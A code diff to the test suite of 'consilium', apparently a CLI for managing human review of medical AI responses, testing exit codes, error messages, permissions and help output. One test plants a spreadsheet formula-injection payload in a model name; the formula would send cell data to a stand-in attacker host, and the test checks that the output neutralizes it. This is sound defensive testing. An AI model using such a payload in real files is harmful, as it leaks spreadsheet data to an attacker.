@@ -50,12 +50,66 @@ describe("consilium CLI", () => {
     await bootstrap();
     expect(await cli("create-project", "--template", "med-palm-long-form", "--name", "X", "--as", "doc1@x.org")).toMatchObject({ code: 1, err: "Error: You do not have permission to do that." });
     expect(await cli("create-user", "--email", "e@x.org", "--name", "E", "--role", "ADMIN", ...PW, "--as", "res@x.org")).toMatchObject({ code: 1 });
-    expect(await cli("export", "nope", "--as", "res@x.org")).toMatchObject({ code: 1, err: 'Error: Project "nope" not found.' });
+    expect(await cli("export", "nope", "--as", "res@x.org")).toMatchObject({ code: 2, err: 'Error: Project "nope" not found.' });
     expect(await cli("create-project", "--template", "med-palm-long-form", "--name", "X")).toMatchObject({ code: 2, err: expect.stringMatching(/--as <email>/) });
-    expect(await cli("create-project", "--template", "nope", "--name", "Yes", "--as", "admin@x.org")).toMatchObject({ code: 1, err: 'Error: Unknown rubric template "nope".' });
+    expect(await cli("create-project", "--template", "nope", "--name", "Yes", "--as", "admin@x.org")).toMatchObject({ code: 2, err: expect.stringMatching(/^Unknown rubric template "nope"\. Run `consilium templates`/) });
     expect(await cli("frobnicate")).toMatchObject({ code: 2, err: expect.stringMatching(/Unknown command "frobnicate"/) });
     expect(await cli("import", "--bogus")).toMatchObject({ code: 2 });
     expect(await cli("export", "x", "--format", "xml", "--as", "admin@x.org")).toMatchObject({ code: 2, err: expect.stringMatching(/jsonl or csv/) });
+  });
+
+  it("exits with 2 when a command names an unknown project, batch, user, template, role or format, or a bad value; 1 when refused", async () => {
+    await bootstrap();
+    expect((await cli("create-project", "--template", "med-palm-long-form", "--name", "Codes", "--as", "admin@x.org")).code).toBe(0);
+    const file = path.join(tmp(), "items.jsonl");
+    writeFileSync(file, JSON.stringify({ externalId: "c1", question: "Q", responses: [{ modelName: "m", content: "a" }] }) + "\n");
+    expect((await cli("import", "codes", file, "--as", "admin@x.org")).code).toBe(0);
+    expect((await cli("assign", "codes", "--batch", "R1", "--per-item", "1", "--reviewers", "doc1@x.org", "--as", "admin@x.org")).code).toBe(0);
+
+    const cases: Array<[string[], RegExp]> = [
+      [["export", "codes", "--batch", "NOPE"], /^Error: Batch "NOPE" not found\.$/],
+      [["export", "nope"], /^Error: Project "nope" not found\.$/],
+      [["export", "codes", "--format", "xml"], /^--format must be jsonl or csv\./],
+      [["export", "codes", "--status", "drafts"], /^--status must be submitted, skipped or all\./],
+      [["export", "codes", "--out", "/no/such/dir/x.csv"], /^Cannot write \/no\/such\/dir\/x\.csv \(ENOENT\)\.$/],
+      [["scores", "nope"], /^Error: Project "nope" not found\.$/],
+      [["scores", "codes", "--batch", "NOPE"], /^Error: Batch "NOPE" not found\.$/],
+      [["import", "nope", file], /^Error: Project "nope" not found\.$/],
+      [["import", "codes", "/no/such/file.jsonl"], /^Cannot read \/no\/such\/file\.jsonl\.$/],
+      [["upload-images", "nope", file], /^Error: Project "nope" not found\.$/],
+      [["assign", "nope", "--batch", "R2"], /^Error: Project "nope" not found\.$/],
+      [["assign", "codes", "--batch", "R2", "--reviewers", "nobody@x.org"], /^No user with email nobody@x\.org\.$/],
+      [["assign", "codes", "--batch", "R2", "--reviewers", "res@x.org"], /^res@x\.org is not an active reviewer/],
+      [["assign", "codes", "--batch", "R2", "--per-item", "two"], /^--per-item must be a whole number from 1/],
+      [["assign", "codes", "--batch", "R2", "--due", "next week"], /^--due must be a date/],
+      [["create-project", "--template", "nope", "--name", "N"], /^Unknown rubric template "nope"/],
+      [["create-project", "--template", "med-palm-long-form", "--name", "N", "--per-item", "0"], /^--per-item must be a whole number from 1/],
+      [["create-project", "--template", "med-palm-long-form", "--name", "N", "--guidelines-file", "/no/such.md"], /^Cannot read \/no\/such\.md\.$/],
+      [["create-user", "--email", "w@x.org", "--name", "W", "--role", "WIZARD", "--password", "a-long-password"], /^--role must be ADMIN, REVIEWER or RESEARCHER\./],
+      [["create-token", "--name", "t", "--as", "nobody@x.org"], /^No active user with email nobody@x\.org\.$/],
+      [["export", "codes", "--as", "nobody@x.org"], /^No active user with email nobody@x\.org\.$/],
+      [["add-member", "nope", "res@x.org", "--role", "researcher"], /^Error: Project "nope" not found\.$/],
+      [["add-member", "codes", "nobody@x.org", "--role", "researcher"], /^Error: No user with email nobody@x\.org\.$/],
+      [["add-member", "codes", "res@x.org", "--role", "wizard"], /^--role must be reviewer, researcher or owner\./],
+      [["add-member", "codes", "res@x.org"], /^--role is required\./],
+      [["remove-member", "codes", "nobody@x.org"], /^Error: No user with email nobody@x\.org\.$/],
+      [["remove-member", "codes", "res@x.org"], /^Error: res@x\.org is not a member of this project\.$/],
+    ];
+    for (const [argv, err] of cases) {
+      const withAs = argv.includes("--as") ? argv : [...argv, "--as", "admin@x.org"];
+      const r = await cli(...withAs);
+      expect([argv.join(" "), r.code, r.err]).toEqual([argv.join(" "), 2, expect.stringMatching(err)]);
+    }
+    // Refused (permission, conflict) is 1: the request was understood.
+    expect(await cli("scores", "codes", "--as", "doc1@x.org")).toMatchObject({ code: 1, err: "Error: You do not have permission to do that." });
+    expect(await cli("create-project", "--template", "med-palm-long-form", "--name", "Codes", "--as", "admin@x.org")).toMatchObject({ code: 1, err: 'Error: A project with slug "codes" already exists.' });
+    expect(await cli("add-member", "codes", "res@x.org", "--role", "researcher", "--as", "res@x.org")).toMatchObject({ code: 1, err: "Error: You do not have permission to do that." });
+    expect(await cli("add-member", "codes", "doc2@x.org", "--role", "researcher", "--as", "admin@x.org")).toMatchObject({ code: 1, err: expect.stringMatching(/is a reviewer account/) });
+    expect(await cli("remove-member", "codes", "doc1@x.org", "--as", "admin@x.org")).toMatchObject({ code: 1, err: expect.stringMatching(/^Error: doc1@x\.org has 1 open assignment in this project \(1 pending\)\..*Nothing was changed\.$/) });
+    expect(await cli("add-member", "codes", "RES@x.org", "--role", "Researcher", "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Added res@x.org as researcher of codes." });
+    expect(await cli("remove-member", "codes", "res@x.org", "--as", "admin@x.org")).toMatchObject({ code: 0, out: "Removed res@x.org from codes." });
+    // None of the failed exports started (nothing read, nothing audited, no file left behind).
+    expect(await getDb().auditEvent.count({ where: { action: "export.download" } })).toBe(0);
   });
 
   it("lists import errors by line and field and imports nothing", async () => {
@@ -148,8 +202,32 @@ describe("consilium CLI", () => {
     expect((await cli("scores", "hb", "--as", "res@x.org")).code).not.toBe(0);
   });
 
+  it("prints the scores table with formula-like model names neutralized (tab-separated, read back by a CSV reader)", async () => {
+    await bootstrap();
+    await cli("create-project", "--template", "healthbench-criteria", "--name", "Inj", "--per-item", "1", "--as", "admin@x.org");
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+    const file = path.join(tmp(), "inj.jsonl");
+    writeFileSync(file, JSON.stringify({ kind: "dialogue", externalId: "d1", turns: [{ role: "user", content: "Hi" }], responses: [{ modelName: evil, content: "Hello" }], criteria: [{ criterion: "greets", points: 4, tags: ["axis:-x"] }] }) + "\n");
+    expect((await cli("import", "inj", file, "--as", "admin@x.org")).code).toBe(0);
+    expect((await cli("assign", "inj", "--batch", "R1", "--per-item", "1", "--as", "admin@x.org")).code).toBe(0);
+    const a = await getDb().assignment.findFirstOrThrow({ include: { item: { include: { criteria: true } }, reviewer: true } });
+    const { saveAnnotation } = await import("@/lib/annotations/save-annotation");
+    const { emptyAnnotationData } = await import("@/lib/annotations/schema");
+    const data = { ...emptyAnnotationData(), responses: { [a.responseOrder[0]]: { ratings: { overall_quality: 4 }, comments: {}, criteria: { [a.item.criteria[0].id]: { met: false } } } } };
+    const actor = { id: a.reviewerId, role: "REVIEWER" as const, email: a.reviewer.email, name: a.reviewer.name };
+    expect(await saveAnnotation(actor, a.id, { baseVersion: 0, clientMutationId: "inj-scores", data, submit: true })).toMatchObject({ status: "saved" });
+
+    const { out, code } = await cli("scores", "inj", "--as", "admin@x.org");
+    expect(code).toBe(0);
+    const { parse } = await import("csv-parse/sync");
+    const rows: string[][] = parse(out, { delimiter: "\t", relax_column_count: true });
+    expect(rows[0].slice(0, 2)).toEqual([`'${evil}`, "overall 0.000 ± 0.000 (n=1)"]);
+    expect(rows[1][0]).toBe("  axis:-x");
+  });
+
   it("prints help for every command", async () => {
-    for (const name of ["create-user", "create-project", "import", "upload-images", "assign", "export", "create-token", "templates"]) {
+    const { COMMANDS } = await import("./main");
+    for (const name of COMMANDS.map((c) => c.name)) {
       const r = await cli(name, "--help");
       expect([name, r.code, r.out.startsWith("Usage: consilium")]).toEqual([name, 0, true]);
     }
